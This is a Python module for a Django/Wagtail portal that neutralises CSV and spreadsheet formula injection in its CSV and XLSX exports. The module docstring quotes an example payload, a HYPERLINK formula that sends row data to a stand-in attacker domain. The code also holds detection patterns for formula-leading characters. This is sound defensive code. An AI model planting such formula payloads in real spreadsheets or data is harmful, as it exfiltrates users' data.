"""What people typed stays text in every spreadsheet the portal writes.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is read by Excel and LibreOffice as a formula ("CSV
injection"): a client named ``=HYPERLINK("https://evil.example/?"&A2)`` would
send the row to that site when a franchisee clicks. Every export goes
through this module:

- XLSX: such a value is written as a string cell (openpyxl would otherwise
  store it as a formula), the way Wagtail's own export guards against it;
  the text stays exactly what was typed.
- CSV (plain text, where the type cannot be said): the value gets a leading
  apostrophe, the form spreadsheets show as text (OWASP's advice). So does
  every part of it that follows a ``,``, a ``;`` or a line break: Excel with
  French regional settings opens a comma CSV splitting its lines on ``;``
  (quotes or not), so ``Bonjour;=HYPERLINK(...)`` would start a cell of its
  own. A part starting with double quotes then a formula character is one
  too (``;"=1+2"`` is a quoted cell holding a formula).

``SafeSpreadsheetExportMixin`` applies both to a Wagtail or ModelAdmin
index view with ``list_export``; ``xlsx_cell`` to a hand-made workbook.
"""

import csv
import datetime
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, TYPE_CHECKING, Any

from django.contrib.admin.utils import label_for_field
from django.core.exceptions import FieldDoesNotExist
from django.utils.encoding import force_str
from django.utils.text import capfirst
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from wagtail.admin.views.mixins import Echo, ExcelDateFormatter, SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet would read this value as a formula (a CR
    followed by LF is a line break, not a CR start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not value.startswith("\r\n")


# Where a reader may start a new cell in a CSV line: the start of the text,
# after ",", ";" (a French Excel's list separator) or a line break; then the
# part is a formula if it begins, after any double quotes, with FORMULA_STARTS.
# A CR followed by LF is one line break (every message a browser sends has
# them): it neither starts a formula nor splits CR from LF, so only a lone CR
# counts as a start. Leading spaces keep a part text, as they keep the whole
# value text.
_FORMULA_PART = re.compile(r"""(^|[,;\n]|\r(?!\n))(?="*(?:[=+\-@\t]|\r(?!\n)))""")

# A lone surrogate (JSON's "\ud800" decodes to one) cannot be written as
# UTF-8 and would fail the whole file: it becomes the replacement character.
_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def _writable_text(value: str) -> str:
    return _LONE_SURROGATE.sub("\ufffd", value)


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV (or any untyped) cell: text stays text.

    An apostrophe goes before every part that a spreadsheet could read as a
    formula (see ``_FORMULA_PART``); nothing else changes (but a lone
    surrogate, which no file can hold, becomes U+FFFD), and a value already
    made safe is returned as it is (idempotent)."""
    if not isinstance(value, str):
        return value
    return _FORMULA_PART.sub(r"\1'", _writable_text(value))


def _xlsx_text(value: str) -> str:
    # Control characters openpyxl refuses (a pasted message may hold some)
    # would fail the whole export: they are dropped.
    return ILLEGAL_CHARACTERS_RE.sub("", _writable_text(value))


def xlsx_cell(sheet: Any, value: Any) -> WriteOnlyCell:
    """A write-only openpyxl cell holding ``value``; a string is always a
    string cell, never a formula."""
    if isinstance(value, str):
        value = _xlsx_text(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


# For mypy: the mixin goes before Wagtail's SpreadsheetExportMixin, whose
# methods it extends (the class itself stays a plain mixin at run time).
_ExportBase: Any = SpreadsheetExportMixin if TYPE_CHECKING else object


class SafeSpreadsheetExportMixin(_ExportBase):
    """For views built on Wagtail's ``SpreadsheetExportMixin`` (Wagtail
    generic index views, wagtail-modeladmin's ``IndexView``)."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return safe_cell(value)
        if isinstance(value, str):
            return _xlsx_text(value)
        return value

    def generate_xlsx_row(self, worksheet: Any, row_dict: Any, date_format: str | None = None) -> Iterable[Any]:
        day_format = getattr(self, "day_format", None)
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"
            elif day_format and type(cell.value) is datetime.date:
                cell.number_format = day_format
            yield cell


class SpreadsheetWriter(SafeSpreadsheetExportMixin, SpreadsheetExportMixin):
    """The one writer of the portal's spreadsheets: Wagtail's
    ``SpreadsheetExportMixin`` (headings, value preprocessing, XLSX date
    formats) outside a view, with the formula guard above. The columns are
    given (``list_export``, ``export_headings``, ``custom_field_preprocess``);
    the rows are any iterable of objects, read once; ``rows_written`` counts
    them. The requests export job and the SPANC folder export use it."""

    def __init__(
        self,
        model: type,
        list_export: Iterable[str],
        export_headings: dict[str, Any] | None = None,
        custom_field_preprocess: dict[str, Any] | None = None,
        sheet_title: str = "Sheet1",
        csv_bom: bool = True,
        date_format: str | None = None,
        column_widths: dict[str, float] | None = None,
        table_header: bool = False,
        day_format: str | None = None,
        title_rows: Iterable[object] = (),
    ) -> None:
        """``date_format``: Excel's number format of datetimes (default from
        the language, as in Wagtail); ``day_format``: that of dates (a date
        cell without one shows as a serial number in some readers);
        ``column_widths``: {"A": 24, ...}; ``table_header``: a bold header
        kept on screen with filter buttons; ``title_rows``: lines of text
        above the header (XLSX only: what the rows are)."""
        self.model = model
        self.date_format = date_format
        self.day_format = day_format
        self.title_rows = [str(row) for row in title_rows]
        self.column_widths = dict(column_widths or {})
        self.table_header = table_header
        self.list_export = list(list_export)
        self.export_headings = dict(export_headings or {})
        self.custom_field_preprocess = dict(custom_field_preprocess or {})
        self.sheet_title = str(sheet_title)[:31]
        self.csv_bom = csv_bom
        self.rows_written = 0

    def get_heading(self, queryset: Any, field: str) -> str:
        heading = self.export_headings.get(field)
        if heading:
            return force_str(heading)
        try:
            return capfirst(force_str(label_for_field(field, self.model)))
        except (AttributeError, FieldDoesNotExist):
            return force_str(field)

    def _counted(self, items: Iterable[Any]) -> Iterator[Any]:
        self.rows_written = 0
        for item in items:
            self.rows_written += 1
            yield item

    def stream_csv(self, items: Iterable[Any]) -> Iterator[str]:
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export)
        if self.csv_bom:
            yield "\ufeff"  # so that Excel opens the UTF-8 CSV with its accents
        yield writer.writerow({field: self.get_heading(None, field) for field in self.list_export})
        for item in self._counted(items):
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def write_csv(self, items: Iterable[Any], output: IO[bytes]) -> None:
        """Write the CSV into the binary file ``output``."""
        for chunk in self.stream_csv(items):
            output.write(chunk.encode("utf-8") if isinstance(chunk, str) else chunk)

    def write_xlsx(self, items: Iterable[Any], output: IO[bytes]) -> None:
        workbook = Workbook(write_only=True, iso_dates=True)
        worksheet = workbook.create_sheet(title=self.sheet_title)
        for column, width in self.column_widths.items():
            worksheet.column_dimensions[column].width = width
        headings = [self.get_heading(None, field) for field in self.list_export]
        header_row = len(self.title_rows) + 1
        if self.table_header:
            # Set before the first row (a write-only sheet writes its view then).
            worksheet.freeze_panes = f"A{header_row + 1}"  # the header stays on screen while scrolling
        for line in self.title_rows:
            worksheet.append([xlsx_cell(worksheet, line)])
        if self.table_header:
            bold = Font(bold=True)
            cells = [xlsx_cell(worksheet, heading) for heading in headings]
            for cell in cells:
                cell.font = bold
            worksheet.append(cells)
        else:
            worksheet.append(headings)
        date_format = self.date_format or ExcelDateFormatter().get()
        for item in self._counted(items):
            worksheet.append(self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format))
        if self.table_header:
            # Excel's filter buttons on the header, over every written row.
            last = get_column_letter(len(headings))
            worksheet.auto_filter.ref = f"A{header_row}:{last}{header_row + self.rows_written}"
        workbook.save(output)

    def write(self, export_format: str, items: Iterable[Any], output: IO[bytes]) -> int:
        if export_format == self.FORMAT_CSV:
            self.write_csv(items, output)
        else:
            self.write_xlsx(items, output)
        return self.rows_written


# force_str(value, strings_only=True) returns these as they are.
_UNCHANGED_BY_FORCE_STR = frozenset({str, int, float, bool, type(None)})


class RowSpreadsheetWriter(SpreadsheetWriter):
    """The same writer, same cells, same formula guard, for rows given as
    sequences of values in ``list_export``'s order (``values_list`` rows):
    no model instance, no per-cell look-up of the field's preprocessing,
    one openpyxl cell object only where a value needs one (a date format, a
    text openpyxl would take for a formula or an error). For exports of tens
    of thousands of rows (enquiries/exports.py)."""

    def to_row_dict(self, item: Any) -> Any:
        return item

    def _preprocessed(self, row: Sequence[Any], export_format: str) -> Iterator[tuple[Any, Any]]:
        """The row's values as Wagtail's get_preprocess_function makes them:
        the field's own function, else force_str (not called for the values
        it returns unchanged: most of them)."""
        cache = self.__dict__.setdefault("_preprocessor_cache", {})
        if export_format not in cache:
            cache[export_format] = [
                self.custom_field_preprocess.get(field, {}).get(export_format) for field in self.list_export
            ]
        for value, preprocess in zip(row, cache[export_format], strict=True):
            if preprocess is not None:
                yield value, preprocess(value)
            elif value.__class__ in _UNCHANGED_BY_FORCE_STR:
                yield value, value
            else:
                yield value, force_str(value, strings_only=True)

    def generate_xlsx_row(self, worksheet: Any, row: Any, date_format: str | None = None) -> list[Any]:
        values: list[Any] = []
        for original, value in self._preprocessed(row, self.FORMAT_XLSX):
            if isinstance(value, str):
                value = _xlsx_text(value)
                if value.startswith("=") or value in ERROR_CODES:
                    value = xlsx_cell(worksheet, value)  # a string cell, never a formula
            elif date_format and isinstance(original, datetime.datetime):
                value = WriteOnlyCell(worksheet, value=value)
                value.number_format = date_format
            elif self.day_format and type(value) is datetime.date:
                value = WriteOnlyCell(worksheet, value=value)
                value.number_format = self.day_format
            values.append(value)
        return values

    def write_csv_row(self, writer: Any, row: Sequence[Any]) -> Any:
        # ``writer`` is stream_csv's DictWriter: its csv.writer takes the list.
        return writer.writer.writerow(
            [safe_cell(value) for _original, value in self._preprocessed(row, self.FORMAT_CSV)]
        )
